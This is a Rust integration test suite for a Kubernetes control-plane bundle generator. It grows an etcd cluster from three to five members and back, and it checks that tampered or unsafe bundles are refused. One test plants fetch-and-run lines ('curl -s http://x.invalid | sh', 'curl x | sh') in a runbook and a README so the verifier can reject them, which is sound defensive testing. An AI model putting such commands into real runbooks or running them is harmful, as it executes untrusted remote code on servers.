//! Day 2 with the real etcd: a three-member cluster started from bundle v1 grows to five
//! members and shrinks back to three by following each new bundle's `changes.json` step by
//! step (the etcdctl commands run as written; starting, restarting and stopping a unit starts
//! or kills etcd from the unit's own ExecStart; installing copies the host's files onto its
//! "machine", a directory that keeps etcd's data across bundles). After every step the
//! cluster accepts a write, and at the end the data written first is still there.
//! kube-apiserver, controller-manager, scheduler and HAProxy steps are checked for their
//! shape only: no Kubernetes binary installs here.

mod util;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;
use util::etcd::{etcdctl, Machines};

/// Addresses of the five masters: none of the other suites' (127.0.1.80-82).
const ADDRESSES: [&str; 5] = [
    "127.0.1.100",
    "127.0.1.101",
    "127.0.1.102",
    "127.0.1.103",
    "127.0.1.104",
];
const LB_ADDRESS: &str = "127.0.1.105";

/// An etcd client and peer port free on every address; each test of this binary starts
/// from its own slot, as they run at once.
fn free_ports() -> (u16, u16) {
    util::etcd::free_ports(&ADDRESSES, 50)
}

fn config(masters: usize, ports: (u16, u16)) -> String {
    let addresses: Vec<(String, &str)> = ADDRESSES
        .iter()
        .take(masters)
        .enumerate()
        .map(|(i, address)| (format!("kubem0{i}"), *address))
        .collect();
    config_of(&addresses, ports)
}

fn config_of(masters: &[(String, &str)], (client, peer): (u16, u16)) -> String {
    let mut text = format!(
        "[cluster]\nname = \"day2\"\n\
         [api]\nendpoint = \"{LB_ADDRESS}\"\n\
         [[load_balancer.hosts]]\nname = \"lb\"\naddress = \"{LB_ADDRESS}\"\n\
         [etcd]\nclient_port = {client}\npeer_port = {peer}\n\
         [pki]\nkey_algorithm = \"ecdsa-p256\"\nlayout = \"separate-cas\"\n"
    );
    for (name, address) in masters {
        text.push_str(&format!(
            "[[masters]]\nname = \"{name}\"\naddress = \"{address}\"\n"
        ));
    }
    text
}

/// The client URLs of the running members, read from their installed units.
fn client_urls(machines: &Machines, _client: u16) -> Vec<String> {
    machines
        .running
        .keys()
        .map(|host| {
            let unit = std::fs::read_to_string(
                machines.root(host).join("etc/systemd/system/etcd.service"),
            )
            .unwrap();
            let flag = "--advertise-client-urls=";
            let at = unit.find(flag).unwrap() + flag.len();
            unit[at..].split_whitespace().next().unwrap().to_owned()
        })
        .collect()
}

/// A write through the running members (it needs a quorum of voters), retried briefly: a
/// leader election after a member left takes a moment.
fn write(machines: &Machines, bundle: &Path, client: u16, key: &str) -> Result<(), String> {
    let endpoints = client_urls(machines, client);
    let start = Instant::now();
    loop {
        match etcdctl(bundle, &endpoints, &["put", key, "written"]) {
            Ok(_) => return Ok(()),
            Err(e) if start.elapsed() > Duration::from_secs(30) => {
                return Err(format!("{key}: {e}\n{}", machines.logs()))
            }
            Err(_) => std::thread::sleep(Duration::from_millis(500)),
        }
    }
}

fn steps(bundle: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(bundle.join("changes.json")).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    json["steps"].as_array().unwrap().clone()
}

/// Runs every step of `bundle`'s runbook, writing after each. A host installed after its
/// etcd stopped in the same runbook is a member that moves: it gets a fresh machine.
fn follow(machines: &mut Machines, bundle: &Path, client: u16, tag: &str) {
    let mut stopped = std::collections::BTreeSet::new();
    for (i, step) in steps(bundle).iter().enumerate() {
        let action = step["action"].as_str().unwrap();
        let host = step["host"].as_str().unwrap();
        let command = step["command"].as_str().unwrap();
        let unit = step["unit"].as_str().unwrap_or_default();
        match (action, unit) {
            ("install", _) => {
                if stopped.contains(host) {
                    let old = machines.root(host);
                    std::fs::rename(&old, old.with_extension("retired")).unwrap();
                }
                machines.install(bundle, host)
            }
            ("start", "etcd.service") => machines.start_etcd(host),
            ("restart", "etcd.service") => {
                machines.stop_etcd(host);
                machines.start_etcd(host);
            }
            ("stop", "etcd.service") => {
                machines.stop_etcd(host);
                stopped.insert(host.to_owned());
            }
            ("start" | "restart" | "stop", _) => assert!(
                command.starts_with("ssh root@127.0.1.") && command.contains(unit),
                "{command}"
            ),
            ("wait", _) if step["check"] != "etcd-healthy" => {
                assert!(command.contains("get --raw /readyz"), "{command}")
            }
            _ => {
                let out = Command::new("sh")
                    .arg("-c")
                    .arg(command)
                    .current_dir(bundle)
                    .output()
                    .unwrap();
                assert!(
                    out.status.success(),
                    "step {i} ({action} {host}) failed: {}{}\n{}",
                    String::from_utf8_lossy(&out.stdout),
                    String::from_utf8_lossy(&out.stderr),
                    machines.logs()
                );
            }
        }
        write(machines, bundle, client, &format!("{tag}-after-step-{i}"))
            .unwrap_or_else(|e| panic!("no write after step {i} ({action} {host}): {e}"));
    }
}

fn members(bundle: &Path, machines: &Machines, client: u16) -> Vec<(String, bool)> {
    let list = etcdctl(bundle, &client_urls(machines, client), &["member", "list"]).unwrap();
    list.lines()
        .map(|line| {
            let fields: Vec<&str> = line.split(", ").collect();
            (fields[2].to_owned(), fields[5].trim() == "true")
        })
        .collect()
}

/// `out` exited with `code` and said `words` on stderr.
fn assert_refused(out: &std::process::Output, code: i32, words: &str) {
    let stderr = util::stderr(out);
    assert_eq!(util::code(out), code, "{stderr}");
    assert!(stderr.contains(words), "{stderr}");
}

/// Bundle v1 of three masters, installed and running, with a first key written.
fn started_v1(dir: &Path, ports: (u16, u16)) -> Machines {
    let out = bundle(dir, &config(3, ports), "v1", None);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let mut machines = Machines::new(dir);
    let v1 = dir.join("v1");
    for host in ["kubem00", "kubem01", "kubem02"] {
        machines.install(&v1, host);
        machines.start_etcd(host);
    }
    write(&machines, &v1, ports.0, "before").unwrap();
    machines
}

fn bundle(dir: &Path, config: &str, out: &str, previous: Option<&str>) -> std::process::Output {
    util::bundle_config(dir, config, "day2.secrets.toml", out, previous)
}

#[test]
fn three_members_grow_to_five_and_shrink_to_three_following_the_runbooks() {
    let dir = tempfile::tempdir().unwrap();
    let ports = free_ports();
    let (client, _) = ports;
    let mut machines = started_v1(dir.path(), ports);

    // 3 -> 5.
    let out = bundle(dir.path(), &config(5, ports), "v2", Some("v1"));
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let v2 = dir.path().join("v2");
    let unit =
        std::fs::read_to_string(v2.join("hosts/kubem04/etc/systemd/system/etcd.service")).unwrap();
    assert!(unit.contains("--initial-cluster-state=existing"), "{unit}");
    let actions: Vec<String> = steps(&v2)
        .iter()
        .map(|s| {
            format!(
                "{} {}",
                s["action"].as_str().unwrap(),
                s["host"].as_str().unwrap()
            )
        })
        .collect();
    let position = |wanted: &str| actions.iter().position(|a| a == wanted).unwrap();
    assert!(position("etcd-member-add kubem03") < position("start kubem03"));
    assert!(position("etcd-member-promote kubem03") < position("etcd-member-add kubem04"));
    follow(&mut machines, &v2, client, "grow");
    let five = members(&v2, &machines, client);
    assert_eq!(five.len(), 5, "{five:?}");
    assert!(five.iter().all(|(_, learner)| !learner), "{five:?}");
    let newest = format!("https://{}:{client}", ADDRESSES[4]);
    let old = etcdctl(&v2, &[newest], &["get", "before", "--print-value-only"]).unwrap();
    assert_eq!(old.trim(), "written");
    let diff = util::cpgen_in(dir.path(), &["diff", "v1", "v2"]);
    assert_eq!(util::code(&diff), 1, "{}", util::stderr(&diff));

    // 5 -> 3.
    let out = bundle(dir.path(), &config(3, ports), "v3", Some("v2"));
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let v3 = dir.path().join("v3");
    let order: Vec<String> = steps(&v3)
        .iter()
        .map(|s| s["action"].as_str().unwrap().to_owned())
        .collect();
    let remove = order
        .iter()
        .position(|a| a == "etcd-member-remove")
        .unwrap();
    assert!(order[remove + 1] == "stop", "{order:?}");
    follow(&mut machines, &v3, client, "shrink");
    let mut three: Vec<String> = members(&v3, &machines, client)
        .into_iter()
        .map(|(name, _)| name)
        .collect();
    three.sort();
    assert_eq!(three, ["kubem00", "kubem01", "kubem02"]);
    let old = etcdctl(
        &v3,
        &client_urls(&machines, client),
        &["get", "grow-after-step-0", "--print-value-only"],
    )
    .unwrap();
    assert_eq!(old.trim(), "written");
    for version in ["v2", "v3"] {
        let verify = util::cpgen_in(
            dir.path(),
            &[
                "verify",
                version,
                "--config",
                &format!("{version}.toml"),
                "--secrets",
                "day2.secrets.toml",
            ],
        );
        assert_eq!(util::code(&verify), 0, "{}", util::stdout(&verify));
    }
}

#[test]
fn a_member_that_moves_leaves_then_joins_at_its_new_address() {
    let dir = tempfile::tempdir().unwrap();
    let ports = free_ports();
    let (client, _) = ports;
    let mut machines = started_v1(dir.path(), ports);
    let moved: Vec<(String, &str)> = [
        ("kubem00", ADDRESSES[0]),
        ("kubem01", ADDRESSES[1]),
        ("kubem02", ADDRESSES[3]),
    ]
    .iter()
    .map(|(n, a)| ((*n).to_owned(), *a))
    .collect();
    let out = bundle(dir.path(), &config_of(&moved, ports), "v2", Some("v1"));
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let v2 = dir.path().join("v2");
    let etcd: Vec<String> = steps(&v2)
        .iter()
        .filter(|s| s["action"].as_str().unwrap().starts_with("etcd-member"))
        .map(|s| s["action"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        etcd,
        [
            "etcd-member-remove",
            "etcd-member-add",
            "etcd-member-promote"
        ]
    );
    follow(&mut machines, &v2, client, "move");
    let names = members(&v2, &machines, client);
    assert_eq!(names.len(), 3, "{names:?}");
    let new_member = format!("https://{}:{client}", ADDRESSES[3]);
    let old = etcdctl(&v2, &[new_member], &["get", "before", "--print-value-only"]).unwrap();
    assert_eq!(old.trim(), "written");
}

#[test]
fn refused_previous_bundles_and_unsafe_changes_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let ports = (2379, 2380);
    let out = bundle(dir.path(), &config(3, ports), "v1", None);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    // Another cluster's name.
    let other = config(3, ports).replace("name = \"day2\"", "name = \"other\"");
    let out = bundle(dir.path(), &other, "x1", Some("v1"));
    assert_refused(&out, 1, "of cluster `day2`, the config is of `other`");
    // Other CAs: the same config with a fresh secrets file.
    std::fs::write(dir.path().join("x2.toml"), config(3, ports)).unwrap();
    let other = util::cpgen_in(
        dir.path(),
        &[
            "bundle",
            "x2.toml",
            "--secrets",
            "other.secrets.toml",
            "--out-dir",
            "y2",
        ],
    );
    assert_eq!(util::code(&other), 0, "{}", util::stderr(&other));
    let with_other_secrets = || {
        let args = [
            "bundle",
            "x2.toml",
            "--secrets",
            "other.secrets.toml",
            "--out-dir",
            "x2",
            "--previous",
            "v1",
        ];
        util::cpgen_in(dir.path(), &args)
    };
    assert_refused(
        &with_other_secrets(),
        1,
        "is another CA than the secrets file's",
    );
    // ... also when the change adds masters: their keys never reach the wrong file.
    std::fs::write(dir.path().join("x2.toml"), config(5, ports)).unwrap();
    let before = std::fs::read(dir.path().join("other.secrets.toml")).unwrap();
    assert_refused(
        &with_other_secrets(),
        1,
        "is another CA than the secrets file's",
    );
    assert_eq!(
        std::fs::read(dir.path().join("other.secrets.toml")).unwrap(),
        before,
        "a refused change wrote to the secrets file"
    );
    // A previous bundle that does not verify: a unit with a flag cpgen never writes.
    let unit = dir
        .path()
        .join("v1/hosts/kubem01/etc/systemd/system/etcd.service");
    let text = std::fs::read_to_string(&unit).unwrap();
    std::fs::write(
        &unit,
        text.replace("--name=kubem01", "--name=kubem01 --config-file=/tmp/x"),
    )
    .unwrap();
    let out = bundle(dir.path(), &config(5, ports), "x3", Some("v1"));
    assert_refused(&out, 1, "does not verify");
    assert!(
        util::stderr(&out).contains("config-file"),
        "{}",
        util::stderr(&out)
    );
    std::fs::write(&unit, text).unwrap();
    // Without the running cluster's secrets file, nothing is made (a new one has new CAs).
    std::fs::write(dir.path().join("x6.toml"), config(5, ports)).unwrap();
    let out = util::cpgen_in(
        dir.path(),
        &["bundle", "x6.toml", "--out-dir", "x6", "--previous", "v1"],
    );
    assert_refused(&out, 2, "needs the secrets file");
    assert!(!dir.path().join("x6.secrets.toml").exists() && !dir.path().join("x6").exists());
    // 3 -> 1 passes through a two-member cluster.
    let out = bundle(dir.path(), &config(1, ports), "x4", Some("v1"));
    assert_refused(&out, 1, "two-member cluster");
    // The deployed bundle is never the output, even with --force.
    let out = util::cpgen_in(
        dir.path(),
        &[
            "bundle",
            "v1.toml",
            "--secrets",
            "day2.secrets.toml",
            "--out-dir",
            "v1",
            "--previous",
            "v1",
            "--force",
        ],
    );
    assert_refused(&out, 2, "the deployed bundle it changes");
    assert!(dir.path().join("v1/manifest.json").exists());
    for refused in ["x1", "x2", "x3", "x4"] {
        assert!(!dir.path().join(refused).exists(), "{refused} was written");
    }
    // Without --previous, the change is named and --previous suggested.
    let out = bundle(dir.path(), &config(5, ports), "x5", None);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    assert!(
        util::stderr(&out).contains("added: kubem03, kubem04")
            && util::stderr(&out).contains("--previous"),
        "{}",
        util::stderr(&out)
    );
}

// ---- runbooks read, not run ----

/// `example` with `from` replaced by `to`, bundled with --previous a bundle of `example`
/// (secrets shared); the new bundle's directory.
fn changed(dir: &Path, example: &str, edits: &[(&str, &str)]) -> (PathBuf, std::process::Output) {
    let before = util::example_text(example);
    let mut after = before.clone();
    for (from, to) in edits {
        assert!(after.contains(from), "{example} lacks {from:?}");
        after = after.replacen(from, to, 1);
    }
    let first = util::bundle_config(dir, &before, "s.toml", "before", None);
    assert_eq!(util::code(&first), 0, "{}", util::stderr(&first));
    let out = util::bundle_config(dir, &after, "s.toml", "after", Some("before"));
    (dir.join("after"), out)
}

fn commands(bundle: &Path) -> Vec<(String, String, String)> {
    steps(bundle)
        .iter()
        .map(|s| {
            let field = |k: &str| s[k].as_str().unwrap_or_default().to_owned();
            (
                format!("{} {}", field("action"), field("host")),
                field("unit"),
                field("command"),
            )
        })
        .collect()
}

const TWO_MORE: (&str, &str) = (
    "[[masters]]\nname = \"kubem02\"\naddress = \"10.10.10.82\"\n",
    "[[masters]]\nname = \"kubem02\"\naddress = \"10.10.10.82\"\n\n[[masters]]\nname = \"kubem03\"\naddress = \"10.10.10.83\"\n\n[[masters]]\nname = \"kubem04\"\naddress = \"10.10.10.84\"\n",
);

#[test]
fn a_moved_member_is_stopped_at_its_old_address_and_started_at_its_new_one() {
    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(dir.path(), "seed-ha", &[("10.10.10.82\"", "10.10.10.92\"")]);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    for step in steps(&after) {
        let (address, command) = (
            step["address"].as_str().unwrap(),
            step["command"].as_str().unwrap(),
        );
        if command.starts_with("ssh ") || command.starts_with("tar ") {
            assert!(command.contains(&format!("ssh root@{address} ")), "{step}");
        }
    }
    for (step, unit, command) in commands(&after) {
        let old = command.contains("ssh root@10.10.10.82 ");
        match step.as_str() {
            "stop kubem02" => assert!(old, "{step} {unit}: {command}"),
            "start kubem02" | "install kubem02" => {
                assert!(
                    command.contains("ssh root@10.10.10.92 "),
                    "{step}: {command}"
                )
            }
            _ => {}
        }
    }
    // A load balancer that is replaced stops, at its address, before any master restarts
    // with certificates that no longer name it.
    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(
        dir.path(),
        "seed-ha",
        &[(
            "name = \"kubernetes\"\naddress = \"10.10.10.2\"",
            "name = \"lb2\"\naddress = \"10.10.10.3\"",
        )],
    );
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let book = commands(&after);
    let first = |prefix: &str| {
        book.iter()
            .position(|(step, _, _)| step.starts_with(prefix))
    };
    let stop = first("stop kubernetes").expect("the old load balancer stops");
    assert!(
        book[stop].2.starts_with("ssh root@10.10.10.2 "),
        "{:?}",
        book[stop]
    );
    assert!(
        stop < first("restart kubem").expect("masters restart"),
        "{book:#?}"
    );
    assert!(first("start lb2").is_some(), "{book:#?}");
    // Two masters that swap addresses would stop each other's etcd: refused.
    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(
        dir.path(),
        "seed-ha",
        &[
            ("10.10.10.81\"", "10.10.10.99\""),
            ("10.10.10.82\"", "10.10.10.81\""),
        ],
    );
    assert_refused(&out, 1, "where member kubem01 still runs");
    assert!(!after.exists());
}

#[test]
fn runbooks_match_their_members_in_ipv6_and_on_masters_and_client_ports_only_restart() {
    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(
        dir.path(),
        "ipv6",
        &[(
            "[[masters]]\nname = \"kubem02\"\naddress = \"fd00:10:10::82\"\n",
            "[[masters]]\nname = \"kubem02\"\naddress = \"fd00:10:10::82\"\n\n[[masters]]\nname = \"kubem03\"\naddress = \"fd00:10:10::83\"\n\n[[masters]]\nname = \"kubem04\"\naddress = \"fd00:10:10::84\"\n",
        )],
    );
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let all: Vec<String> = commands(&after).into_iter().map(|(_, _, c)| c).collect();
    // Brackets are a class to grep: only a fixed-string search finds an IPv6 URL.
    assert!(
        all.iter()
            .any(|c| c.contains("grep -qF \", https://[fd00:10:10::83]:")),
        "{all:#?}"
    );
    assert!(
        !all.iter().any(|c| c.contains("grep -q \", https://[")),
        "{all:#?}"
    );

    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(dir.path(), "on-masters-vip", &[TWO_MORE]);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let started: Vec<String> = commands(&after)
        .into_iter()
        .filter(|(step, _, _)| step == "start kubem04")
        .map(|(_, unit, _)| unit)
        .collect();
    assert!(
        started.contains(&"haproxy.service".to_owned()),
        "{started:?}"
    );
    assert!(
        started.contains(&"keepalived.service".to_owned()),
        "{started:?}"
    );

    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(
        dir.path(),
        "seed-ha",
        &[("client_port = 2379", "client_port = 2479")],
    );
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let steps = commands(&after);
    assert!(
        !steps
            .iter()
            .any(|(step, _, _)| step.starts_with("etcd-member")),
        "{steps:#?}"
    );
    let restarts = steps
        .iter()
        .filter(|(step, unit, _)| step.starts_with("restart") && unit == "etcd.service")
        .count();
    assert_eq!(restarts, 3, "{steps:#?}");
    // Installs never hand the machine's directories to the operator's user.
    assert!(steps
        .iter()
        .filter(|(step, _, _)| step.starts_with("install"))
        .all(
            |(_, _, c)| c.contains("--owner=0 --group=0 --numeric-owner")
                && c.contains("--no-overwrite-dir")
        ));
}

#[test]
fn verify_holds_a_change_bundle_to_its_runbook_and_its_joins() {
    let dir = tempfile::tempdir().unwrap();
    let (after, out) = changed(dir.path(), "seed-ha", &[TWO_MORE]);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    let verify = |extra: &[&str]| {
        let mut args = vec!["verify", "after"];
        args.extend(extra);
        let out = util::cpgen_in(dir.path(), &args);
        (util::code(&out), util::stdout(&out))
    };
    let proof = ["--config", "after.toml", "--secrets", "s.toml"];
    let (code, text) = verify(&proof);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("given its runbook"), "{text}");
    // A command of the runbook that is not cpgen's, even with the manifest redone.
    let runbook = after.join("changes.json");
    let original = std::fs::read_to_string(&runbook).unwrap();
    let evil = original.replacen(
        "\"command\": \"tar ",
        "\"command\": \"curl -s http://x.invalid | sh; tar ",
        1,
    );
    std::fs::write(&runbook, &evil).unwrap();
    util::redo_manifest(&after);
    let (code, text) = verify(&[]);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("error[CP833]: changes.json: step 1"),
        "{text}"
    );
    // A step the playbook would run on another machine than its command reaches.
    let elsewhere = original.replacen(
        "\"address\": \"10.10.10.83\"",
        "\"address\": \"10.10.10.80\"",
        1,
    );
    assert_ne!(elsewhere, original);
    std::fs::write(&runbook, &elsewhere).unwrap();
    util::redo_manifest(&after);
    let (code, text) = verify(&[]);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("the command reaches 10.10.10.83, the step says it acts at 10.10.10.80"),
        "{text}"
    );
    std::fs::write(&runbook, &original).unwrap();
    // The README's Changes section is rebuilt from changes.json.
    let readme = after.join("README.md");
    let text = std::fs::read_to_string(&readme).unwrap();
    std::fs::write(
        &readme,
        text.replace("## Changes\n", "## Changes\n\nFirst run `curl x | sh`.\n"),
    )
    .unwrap();
    util::redo_manifest(&after);
    let (code, out) = verify(&proof);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("error[CP834]: README.md"), "{out}");
    std::fs::write(&readme, text).unwrap();
    // A joining member made to bootstrap a cluster of its own, unit and record alike.
    let unit = after.join("hosts/kubem04/etc/systemd/system/etcd.service");
    let unit_text = std::fs::read_to_string(&unit).unwrap();
    let own = "kubem04=https://10.10.10.84:2380";
    let cluster = unit_text
        .split("--initial-cluster=")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .unwrap()
        .to_owned();
    std::fs::write(
        &unit,
        unit_text
            .replace(
                &format!("--initial-cluster={cluster}"),
                &format!("--initial-cluster={own}"),
            )
            .replace(
                "--initial-cluster-state=existing",
                "--initial-cluster-state=new",
            ),
    )
    .unwrap();
    let manifest = after.join("manifest.json");
    let manifest_text = std::fs::read_to_string(&manifest).unwrap();
    let mut json: Value = serde_json::from_str(&manifest_text).unwrap();
    json["etcd_joins"]["kubem04"] = serde_json::json!({"state": "new", "initial_cluster": own});
    std::fs::write(&manifest, serde_json::to_string_pretty(&json).unwrap()).unwrap();
    util::redo_manifest(&after);
    let (code, text) = verify(&[]);
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("hosts/kubem04/etc/systemd/system/etcd.service: it bootstrapped a cluster other members"),
        "{text}"
    );
}
